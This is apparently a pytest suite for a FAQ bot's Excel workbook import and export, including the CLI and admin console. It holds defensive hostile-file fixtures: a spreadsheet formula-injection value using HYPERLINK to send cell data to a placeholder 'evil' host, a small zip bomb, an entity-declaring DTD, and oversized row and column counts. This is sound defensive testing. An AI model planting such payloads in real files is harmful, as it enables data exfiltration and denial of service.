"""Excel workbooks (.xlsx): import from the first sheet with a CSV-like header, cells as the
text they show, formulas by their saved results, the sheet's own row numbers in errors;
hostile files refused with a reason; export that round-trips exactly and never holds a
formula. Workbooks are built with openpyxl, as a spreadsheet program would save them."""

from __future__ import annotations

import datetime
import io
import random
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.styles import PatternFill
from sqlalchemy import delete

from tests.console_helpers import (
    console_app_fixture,  # noqa: F401 - the app fixture
    csrf,
    login,
    wait_for_job,
)
from tests.helpers import content, say
from tests.test_import_review2 import ANSWERS, _items
from wxbot.qa import store, writer
from wxbot.qa.formats import (
    MISSING,
    FormatError,
    Item,
    export_items,
    parse,
    parse_bytes,
    write,
    xlsx_scan,
)

NOW = 1.0e9


def workbook(*rows: list[Any], title: str = "FAQ") -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    return book


def xlsx(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def records(data: bytes, name: str = "faq.xlsx") -> list[tuple[int, list[object], object, object]]:
    parsed = parse_bytes(data, name)
    assert parsed.errors == [], parsed.errors
    return [(r.line, r.questions, r.answer, r.language) for r in parsed.records]


def with_sheet_xml(data: bytes, edit: Any, part: str = "xl/worksheets/sheet1.xml") -> bytes:
    """The workbook with one part's XML (the first sheet's by default) passed through
    ``edit`` (what a program other than Excel, or an attacker, could have written)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if info.filename == part:
                body = edit(body)
            target.writestr(info.filename, body)
    return out.getvalue()


# -- reading: no database ----------------------------------------------------------------------

TABLE = [
    ["question", "answer", "similar", "language"],
    ["银行卡丢了怎么挂失", "请立即拨打 95568, 办理临时挂失。", "卡不见了|借记卡丢了", "zh"],
    ["How do I report a lost card?", "Call 95568.", "", "en"],
    ["营业时间|几点开门", "工作日 9:00-17:00。", "", ""],
]


@pytest.mark.parametrize(
    "header",
    [
        ["question", "answer", "similar", "language"],
        ["问题", "答案", "相似问法", "语言"],
        [" Question ", "ANSWER", "相似问题", "Language"],
    ],
)
def test_a_sheet_reads_as_the_same_table_in_csv_does(header) -> None:  # type: ignore[no-untyped-def]
    data = xlsx(workbook(header, *TABLE[1:]))
    csv_text = "\n".join(",".join(f'"{c}"' for c in row) for row in [header, *TABLE[1:]])
    from_csv = parse(csv_text + "\n", "faq.csv", "csv")
    want = [(r.line, r.questions, r.answer, r.language) for r in from_csv.records]
    assert records(data) == want
    assert want[0] == (2, ["银行卡丢了怎么挂失", "卡不见了", "借记卡丢了"], TABLE[1][1], "zh")
    assert want[2][1:] == (["营业时间", "几点开门"], "工作日 9:00-17:00。", None)


def test_repeated_question_columns_and_optional_ones() -> None:
    data = xlsx(workbook(["问题", "问题", "答案"], ["怎么退款", "如何退款", "在订单页申请。"]))
    # no language column: MISSING (an update keeps the entry's language)
    assert records(data) == [(2, ["怎么退款", "如何退款"], "在订单页申请。", MISSING)]


def test_cells_become_the_text_they_show() -> None:
    book = workbook(["question", "answer", "similar"])
    sheet = book.active
    sheet.append([12306, 95568.0, 3.14])  # an int, a whole float, a decimal
    # Excel's 15 significant digits; an 18-digit number (an ID typed as a number) has lost
    # its last digits in any spreadsheet: it reads as Excel stores it, not as made-up digits
    sheet.append(["小数", 0.1 + 0.2, 123456789012345678])
    sheet.append([datetime.date(2024, 5, 1), datetime.datetime(2024, 5, 1, 9, 30), True])
    sheet.append(["时间", datetime.time(18, 5, 7), False])
    sheet.append([571, "邮编前面有 0", None])
    sheet.cell(row=6, column=1).number_format = "0000"  # shown as 0571
    assert records(xlsx(book)) == [
        (2, ["12306", "3.14"], "95568", MISSING),
        (3, ["小数", "1.23456789012346e+17"], "0.3", MISSING),
        (4, ["2024-05-01", "TRUE"], "2024-05-01 09:30", MISSING),
        (5, ["时间", "FALSE"], "18:05:07", MISSING),
        (6, ["0571"], "邮编前面有 0", MISSING),
    ]


def test_row_numbers_are_the_sheets_and_blank_rows_are_skipped() -> None:
    book = workbook(
        [None], [None], ["问题", "答案"], ["甲", "一"], [None, None], ["乙", ""], ["丙", "三"]
    )
    sheet = book.active
    sheet.cell(row=400, column=2).fill = PatternFill("solid", fgColor="FFFF00")  # formatted, empty
    parsed = parse_bytes(xlsx(book), "faq.xlsx")
    assert [(r.line, r.questions) for r in parsed.records] == [
        (4, ["甲"]),
        (6, ["乙"]),
        (7, ["丙"]),
    ]
    assert parsed.errors == []


def test_formulas_read_as_their_saved_results() -> None:
    book = workbook(["question", "answer"], ["q1", "=1+1"], ["q2", '="文"&"本"'], ["q3", "=NOW()"])

    def saved(xml: bytes) -> bytes:  # as Excel saves: each formula with its last result
        xml = re.sub(rb'(<c r="B2"[^>]*>)(<f>[^<]*</f>)<v\s*/>', rb"\1\2<v>2</v>", xml)
        return re.sub(
            rb'<c r="B3"([^>]*)>(<f>[^<]*</f>)<v\s*/>',
            '<c r="B3" t="str"><f>"x"</f><v>文本</v>'.encode(),
            xml,
        )

    parsed = parse_bytes(with_sheet_xml(xlsx(book), saved), "f.xlsx")
    assert [(r.line, r.answer) for r in parsed.records] == [(2, "2"), (3, "文本")]
    assert parsed.errors == [
        "f.xlsx:4: cell B4 holds a formula without a saved result; open the file in Excel "
        "or WPS and save it again (or paste values)"
    ]


def test_error_values_and_values_right_of_the_header_are_bad_rows() -> None:
    book = workbook(["question", "answer"], ["q1", "#N/A"], ["q2", "a2", "备注"], ["q3", "a3"])
    parsed = parse_bytes(xlsx(book), "e.xlsx")
    assert parsed.errors == [
        "e.xlsx:2: cell B2 holds the error #N/A",
        "e.xlsx:3: expected 2 columns (question,answer), found a value in column C; "
        "name that column in the header or clear it",
    ]
    assert [r.line for r in parsed.records] == [4]


@pytest.mark.parametrize(
    "header, error",
    [
        (["怎么退款", "在订单页申请。"], "h.xlsx:1: the first row must be a header"),
        (["question", "answer", "备注"], "h.xlsx:1: column C: unknown column '备注'"),
        (["question", None, "answer"], "h.xlsx:1: column B of the header row has no name"),
        (["question", "similar"], "h.xlsx:1: the header needs a question column and one answer"),
        (["question", "answer", "答案"], "h.xlsx:1: the header needs a question column and one"),
    ],
)
def test_a_header_row_is_required(header, error) -> None:  # type: ignore[no-untyped-def]
    parsed = parse_bytes(xlsx(workbook(header, ["q", "a", "x"])), "h.xlsx")
    assert parsed.records == [] and len(parsed.errors) == 1
    assert parsed.errors[0].startswith(error), parsed.errors


def test_the_first_visible_sheet_is_read_and_named() -> None:
    book = workbook(["question", "answer"], ["隐藏表的问题", "不读"], title="草稿")
    book.active.sheet_state = "hidden"
    faq = book.create_sheet("FAQ")
    faq.append(["问题", "答案"])
    faq.append(["可见表的问题", "读这个"])
    book.create_sheet("备注").append(["随便写", "也不读"])
    book.active = 1
    parsed = parse_bytes(xlsx(book), "multi.xlsx")
    assert [(r.questions, r.answer) for r in parsed.records] == [(["可见表的问题"], "读这个")]
    assert parsed.read_as == "Excel workbook, sheet 'FAQ' (1 of 3 sheets; the others are not read)"


def _dump(items: list[Item]) -> bytes:
    out = io.BytesIO()
    assert write(items, "xlsx", out) == len(items)
    return out.getvalue()


def test_every_answer_reads_back_exactly() -> None:
    """The answers the other formats are tested with (CR, CRLF, U+2028, "|", quotes ...)."""
    items = _items()
    parsed = parse_bytes(_dump(items), "out.xlsx")
    assert parsed.errors == []
    got = [
        (writer.check_questions(r.questions), writer.check_answer(r.answer), r.language)
        for r in parsed.records
    ]
    want = [(it.questions, it.answer, it.language) for it in items]
    want[0] = (["退款/流程", *want[0][0][1:]], *want[0][1:])  # "|" separates questions
    assert [a for _, a, _ in got] == [a for _, a, _ in want]
    assert got == want


def test_random_values_with_excel_escapes_read_back_exactly() -> None:
    """Excel writes a CR as _x000D_ and a literal "_x000D_" as _x005F_x000D_: any mix of
    them, and of formula characters, reads back as it was written."""
    pieces = ["_x000D_", "_x005F_", "_x0041_", "_x", "_", "x0041", "000D_", "\r", "\r\n", "\n"]
    pieces += ["=", "+", "-", "@", "'", "\t", "中", "a", " "]
    rnd = random.Random(7)
    checked = 0
    for _ in range(400):
        answer = "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 12)))
        question = "问" + "".join(rnd.choice(pieces) for _ in range(6))
        try:
            answer = writer.check_answer(answer)
            question = writer.check_question(question.replace("\r", "").replace("\n", ""))
        except writer.KnowledgeError:
            continue  # not storable, so never exported
        parsed = parse_bytes(_dump([Item([question], answer)]), "r.xlsx")
        assert parsed.errors == [], (question, answer)
        assert (parsed.records[0].questions, parsed.records[0].answer) == ([question], answer)
        checked += 1
    assert checked > 300


def test_an_export_never_holds_a_formula() -> None:
    items = [
        Item(["=1+1", "-5 度怎么办", "+86 手机号"], "@所有人 通知", "zh"),
        Item(['=HYPERLINK("http://evil/?"&A1,"点我")'], "=SUM(A1:A9)", None),
        Item(["12306"], "\t制表符开头", "en"),
    ]
    book = openpyxl.load_workbook(io.BytesIO(_dump(items)))  # not data_only: formulas show
    cells = [c for row in book.active.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells)
    starters = [c for c in cells if str(c.value).startswith(("=", "+", "-", "@", "\t"))]
    assert len(starters) == 6 and all(c.quotePrefix for c in starters)
    assert book.active["A2"].value == "=1+1" and book.active["A4"].value == "12306"
    records_back = parse_bytes(_dump(items), "x.xlsx").records
    assert [(r.questions, r.answer, r.language) for r in records_back] == [
        (it.questions, it.answer, it.language) for it in items
    ]


# -- hostile and foreign files -----------------------------------------------------------------


def _legacy(data: bytes) -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + data


def _other_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


@pytest.mark.parametrize(
    "data, error",
    [
        (b"question,answer\nq,a\n", "x.xlsx: not an Excel .xlsx workbook (not a zip file)"),
        (_legacy(b"\0" * 512), "x.xlsx: an old .xls workbook, or one protected by a password"),
        (_other_zip(), "x.xlsx: not an Excel .xlsx workbook ("),
        (xlsx(workbook(["q", "a"]))[:700], "x.xlsx: a damaged .xlsx file"),
        (b"PK\x03\x04" + b"\0" * 100, "x.xlsx: a damaged .xlsx file"),
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused_with_a_reason(data, error) -> None:  # type: ignore[no-untyped-def]
    parsed = parse_bytes(data, "x.xlsx")
    assert parsed.records == [] and len(parsed.errors) == 1
    assert parsed.errors[0].startswith(error), parsed.errors


def test_a_corrupted_part_is_a_damaged_file() -> None:
    """The sheet's checksum in the zip's directory is wrong: zipfile notices only at the end
    of the streamed sheet, after openpyxl has opened the workbook."""
    book = workbook(["question", "answer"], *([f"问题{i}", "答" * 50] for i in range(300)))
    data = bytearray(xlsx(book))
    name = b"xl/worksheets/sheet1.xml"
    entry = data.index(b"PK\x01\x02")  # the first central directory entry
    while data[entry + 46 : entry + 46 + len(name)] != name:
        entry = data.index(b"PK\x01\x02", entry + 4)
    data[entry + 16] ^= 0xFF  # (the CRC-32 field of the entry)
    parsed = parse_bytes(bytes(data), "c.xlsx")
    assert parsed.records == []
    assert parsed.errors == [
        "c.xlsx: a damaged .xlsx file (Bad CRC-32 for file 'xl/worksheets/sheet1.xml')"
    ]


def test_old_excel_files_are_refused_by_their_extension() -> None:
    (error,) = parse_bytes(b"anything", "faq.xls").errors
    assert error.startswith("faq.xls: .xls workbooks cannot be read; open it in Excel or WPS")
    assert "save it as .xlsx" in error


HEADER = b'<row r="1"><c r="A1" t="inlineStr"><is><t>question</t></is></c><c r="B1" t="inlineStr"><is><t>answer</t></is></c></row>'


def _sheet_data(rows: bytes) -> bytes:
    def edit(xml: bytes) -> bytes:
        return re.sub(
            rb"<sheetData>.*</sheetData>|<sheetData\s*/>",
            b"<sheetData>" + HEADER + rows + b"</sheetData>",
            xml,
            flags=re.S,
        )

    return with_sheet_xml(xlsx(workbook(["x"])), edit)


@pytest.mark.parametrize(
    "rows, error",
    [
        # openpyxl would pad a row numbered 999999999999 with that many empty rows
        (
            b'<row r="999999999999"><c t="inlineStr"><is><t>q</t></is></c></row>',
            "h.xlsx: a row numbered past 1,048,576",
        ),
        (b'<row r="2">' + b"<c/>" * 20_000 + b"</row>", "h.xlsx:2: more than 16,384 columns"),
        (b'<row r="2"><c r="XFE2"><v>1</v></c></row>', "h.xlsx:2: more than 16,384 columns"),
        (b'<row r="2"><c r="A2"><v>1</v></c>', "h.xlsx: the sheet is damaged (mismatched tag)"),
    ],
)
def test_a_hostile_sheet_is_refused_quickly(rows, error) -> None:  # type: ignore[no-untyped-def]
    parsed = parse_bytes(_sheet_data(rows), "h.xlsx")
    assert parsed.records == [] and len(parsed.errors) == 1
    assert parsed.errors[0].startswith(error), parsed.errors


def test_the_last_row_excel_has_is_still_read() -> None:
    row = b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>q</t></is></c><c r="B1048576" t="inlineStr"><is><t>a</t></is></c></row>'
    assert records(_sheet_data(row), "h.xlsx") == [(1_048_576, ["q"], "a", MISSING)]


def test_a_sheet_declaring_entities_is_refused() -> None:
    """openpyxl (through defusedxml) refuses it when it loads the workbook; the scan would too."""
    dtd = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'

    def edit(xml: bytes) -> bytes:
        return dtd + xml[xml.index(b"<worksheet") :]

    (error,) = parse_bytes(with_sheet_xml(xlsx(workbook(["q", "a"])), edit), "d.xlsx").errors
    assert error.startswith("d.xlsx: not an Excel .xlsx workbook (")
    with pytest.raises(FormatError, match="d.xlsx: the sheet declares a DTD"):
        xlsx_scan.scan_sheet(io.BytesIO(dtd + b"<worksheet/>"), "d.xlsx")


def test_a_zip_bomb_is_refused_by_its_declared_size(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    """A sheet unpacking past the limit (here lowered to 1 MB, to build the bomb quickly)."""
    monkeypatch.setattr(xlsx_scan, "MAX_UNPACKED_BYTES", 1024 * 1024)
    padding = b" " * (2 * 1024 * 1024)  # compresses to a few KB

    bomb = with_sheet_xml(
        xlsx(workbook(["question", "answer"], ["q", "a"])),
        lambda x: x.replace(b"<sheetData>", padding + b"<sheetData>"),
    )
    assert len(bomb) < 64 * 1024
    (error,) = parse_bytes(bomb, "bomb.xlsx").errors
    assert error == "bomb.xlsx: the workbook unpacks to more than 1 MB; split it, or save it as CSV"


def test_a_part_openpyxl_parses_whole_is_limited(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr(xlsx_scan, "MAX_PART_BYTES", 64 * 1024)
    data = xlsx(workbook(["question", "answer"], ["q", "a"]))
    padded = with_sheet_xml(
        data,
        lambda body: body.replace(b"<styleSheet", b"<!--" + b"x" * 100_000 + b"--><styleSheet", 1),
        part="xl/styles.xml",
    )
    (error,) = parse_bytes(padded, "s.xlsx").errors
    assert error.startswith("s.xlsx: the part xl/styles.xml unpacks to")


# -- the CLI: both databases -------------------------------------------------------------------


def _entries(app) -> list[tuple[str, list[str]]]:  # type: ignore[no-untyped-def]
    with app.extensions["wxbot.engine"].connect() as conn:
        return [v for _, v in sorted(store.load_entries(conn).items())]


def _as_exported(entries: list[tuple[str, list[str]]]) -> list[tuple[str, list[str]]]:
    """As CSV, a "|" inside a question is written "/" (the same question key): "|" separates
    a cell's questions."""
    return [(a, [q.replace("|", "/") for q in qs]) for a, qs in entries]


def _clear(app) -> None:  # type: ignore[no-untyped-def]
    with app.extensions["wxbot.engine"].begin() as conn:
        conn.execute(delete(store.questions))
        conn.execute(delete(store.entries))


def test_cli_imports_a_workbook_and_says_which_sheet(app, bot, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb

    path = tmp_path / "faq.xlsx"
    path.write_bytes(xlsx(workbook(*TABLE)))
    result = app.test_cli_runner().invoke(kb, ["import", str(path)])
    assert result.exit_code == 0, result.output
    assert f"read {path} as Excel workbook, sheet 'FAQ'" in result.output
    assert "imported: added 3, updated 0, unchanged 0, rejected 0" in result.output
    assert content(say(bot, "o_x", "借记卡丢了")).startswith("请立即拨打 95568")
    assert content(say(bot, "o_x", "几点开门")) == "工作日 9:00-17:00。"


def test_cli_bad_workbook_exits_non_zero_and_writes_nothing(app, tmp_path) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb

    runner = app.test_cli_runner()
    good = tmp_path / "good.xlsx"
    good.write_bytes(xlsx(workbook(*TABLE)))
    assert runner.invoke(kb, ["import", str(good)]).exit_code == 0
    before = _entries(app)
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(xlsx(workbook(["问题", "答案"], ["新问题", "新答案"], ["坏行", "#DIV/0!"])))
    result = runner.invoke(kb, ["import", str(bad)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert f"{bad}:3: cell B3 holds the error #DIV/0!" in result.output
    assert "nothing written" in result.output and _entries(app) == before
    renamed = tmp_path / "renamed.xlsx"
    renamed.write_bytes("问题,答案\n甲,乙\n".encode("gbk"))
    result = runner.invoke(kb, ["import", str(renamed)])
    assert result.exit_code == 1 and "not an Excel .xlsx workbook (not a zip file)" in result.output
    old = tmp_path / "old.xls"
    old.write_bytes(_legacy(b"\0" * 512))
    result = runner.invoke(kb, ["import", str(old)])
    assert result.exit_code == 1 and "save it as .xlsx" in result.output
    assert _entries(app) == before


@pytest.mark.parametrize("how", [["--format", "xlsx"], []])
def test_cli_export_import_export_is_a_fixed_point(app, tmp_path, how) -> None:  # type: ignore[no-untyped-def]
    """As test_import_review2's for the text formats; the bytes differ (a workbook records
    when it was saved), so the sheets' contents are compared."""
    from wxbot.qa.cli import kb

    with app.extensions["wxbot.engine"].begin() as conn:
        for it in _items():
            writer.create_entry(
                conn, it.questions, it.answer, now=NOW, source="api", language=it.language
            )
    runner = app.test_cli_runner()
    first = tmp_path / ("first.data" if how else "first.xlsx")
    result = runner.invoke(kb, ["export", str(first), *how])
    assert result.exit_code == 0 and f"exported {len(ANSWERS)} entries" in result.output, (
        result.output
    )
    assert first.read_bytes().startswith(b"PK")
    stored = _entries(app)
    n = len(ANSWERS)
    again = runner.invoke(kb, ["import", str(first), *how])
    assert f"added 0, updated 0, unchanged {n}, rejected 0" in again.output, again.output
    _clear(app)
    fresh = runner.invoke(kb, ["import", str(first), *how])
    assert f"added {n}, updated 0" in fresh.output, fresh.output
    assert _entries(app) == _as_exported(stored)
    with app.extensions["wxbot.engine"].connect() as conn:
        assert [it.answer for it in export_items(conn)] == ANSWERS
    second = tmp_path / "second.xlsx"
    assert runner.invoke(kb, ["export", str(second)]).exit_code == 0

    def cells(path: Path) -> list[tuple[Any, ...]]:
        book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))  # (any extension)
        return list(book.active.iter_rows(values_only=True))

    assert cells(second) == cells(first) and len(cells(first)) == n + 1


def test_cli_export_xlsx_refusals(app, tmp_path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.cli import kb
    from wxbot.qa.formats import xlsx_file

    runner = app.test_cli_runner()
    result = runner.invoke(kb, ["export", "-", "--format", "xlsx"])
    assert result.exit_code == 2 and "binary" in result.output
    result = runner.invoke(kb, ["export", str(tmp_path / "no" / "such" / "dir.xlsx")])
    assert result.exit_code == 1 and "cannot write" in result.output
    with app.extensions["wxbot.engine"].begin() as conn:
        for i in range(3):
            writer.create_entry(conn, [f"问题{i}"], f"答案{i}", now=NOW, source="api")
    monkeypatch.setattr(xlsx_file, "MAX_ROWS", 3)  # a sheet of 3 rows: a header and 2 entries
    big = tmp_path / "big.xlsx"
    result = runner.invoke(kb, ["export", str(big)])
    assert result.exit_code == 1 and "more than 2 entries" in result.output
    assert not big.exists()  # no half-written workbook


# -- the console: both databases ---------------------------------------------------------------


def _upload(client, name: str, data: bytes):  # type: ignore[no-untyped-def]
    form = {"csrf_token": csrf(client, "/admin/import"), "file": (io.BytesIO(data), name)}
    return client.post("/admin/import", data=form, content_type="multipart/form-data")


def test_console_uploads_a_workbook(app, client, bot) -> None:  # type: ignore[no-untyped-def]
    login(client)
    page = client.get("/admin/import").text
    assert re.search(r'accept="[^"]*\.xlsx', page) and '<option value="xlsx">' in page
    book = workbook(*TABLE)
    book.active.append(["坏行", None, None, None])
    resp = _upload(client, "faq.xlsx", xlsx(book))
    assert resp.status_code == 303
    job = resp.headers["Location"]
    wait_for_job(client, job, ("checked",))
    page = client.get(job).text
    assert "读取为：Excel 工作簿，工作表「FAQ」" in page
    assert '<td id="r-added">3</td>' in page and '<td id="r-rejected" class="bad">1</td>' in page
    assert "<td>5</td><td>" in page  # the sheet's row number
    assert _entries(app) == []
    client.post(job + "/commit", data={"csrf_token": csrf(client, job), "skip_bad": "1"})
    assert wait_for_job(client, job, ("done", "failed"))["status"] == "done"
    assert len(_entries(app)) == 3
    assert content(say(bot, "o_c", "卡不见了")).startswith("请立即拨打 95568")


@pytest.mark.parametrize(
    "name, data, message",
    [
        (
            "faq.xls",
            _legacy(b"\0" * 512),
            "不能读取旧版 Excel 文件「faq.xls」：请在 Excel 或 WPS 里另存为 .xlsx",
        ),
        (
            "faq.xlsx",
            "问题,答案\n甲,乙\n".encode("gbk"),
            "无法识别「faq.xlsx」的内容：它不是 Excel .xlsx 工作簿。",
        ),
    ],
)
def test_console_refuses_old_and_renamed_files_at_once(app, client, name, data, message) -> None:  # type: ignore[no-untyped-def]
    login(client)
    resp = _upload(client, name, data)
    assert resp.status_code == 422 and message in resp.text
    assert _entries(app) == []


def test_console_lists_a_foreign_zip_and_a_formula_without_result(app, client) -> None:  # type: ignore[no-untyped-def]
    login(client)
    job = _upload(client, "doc.xlsx", _other_zip()).headers["Location"]
    wait_for_job(client, job, ("checked",))
    assert "不是 Excel .xlsx 工作簿（" in client.get(job).text
    book = workbook(["问题", "答案"], ["甲", "=1+1"])
    job = _upload(client, "f.xlsx", xlsx(book)).headers["Location"]
    wait_for_job(client, job, ("checked",))
    page = client.get(job).text
    assert "<td>2</td><td>单元格 B2 是公式，但文件里没有保存计算结果" in page
    assert "没有需要写入的行" in page and _entries(app) == []


def test_console_export_too_big_for_a_sheet(app, client, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from wxbot.qa.formats import xlsx_file

    login(client)
    with app.extensions["wxbot.engine"].begin() as conn:
        for i in range(3):
            writer.create_entry(conn, [f"问题{i}"], f"答案{i}", now=NOW, source="api")
    monkeypatch.setattr(xlsx_file, "MAX_ROWS", 3)
    resp = client.get("/admin/knowledge/export?format=xlsx")
    assert resp.status_code == 413 and "请导出为 CSV" in resp.text


def test_console_export_as_xlsx_imports_back(app, client) -> None:  # type: ignore[no-untyped-def]
    login(client)
    with app.extensions["wxbot.engine"].begin() as conn:
        for it in _items()[:6]:
            writer.create_entry(
                conn, it.questions, it.answer, now=NOW, source="api", language=it.language
            )
    stored = _entries(app)
    assert 'href="/admin/knowledge/export?format=xlsx"' in client.get("/admin/knowledge").text
    resp = client.get("/admin/knowledge/export?format=xlsx")
    assert resp.status_code == 200 and resp.mimetype.endswith("spreadsheetml.sheet")
    assert "knowledge.xlsx" in resp.headers["Content-Disposition"]
    _clear(app)
    job = _upload(client, "knowledge.xlsx", resp.get_data()).headers["Location"]
    wait_for_job(client, job, ("checked",))
    client.post(job + "/commit", data={"csrf_token": csrf(client, job)})
    assert wait_for_job(client, job, ("done", "failed"))["status"] == "done"
    assert _entries(app) == _as_exported(stored)
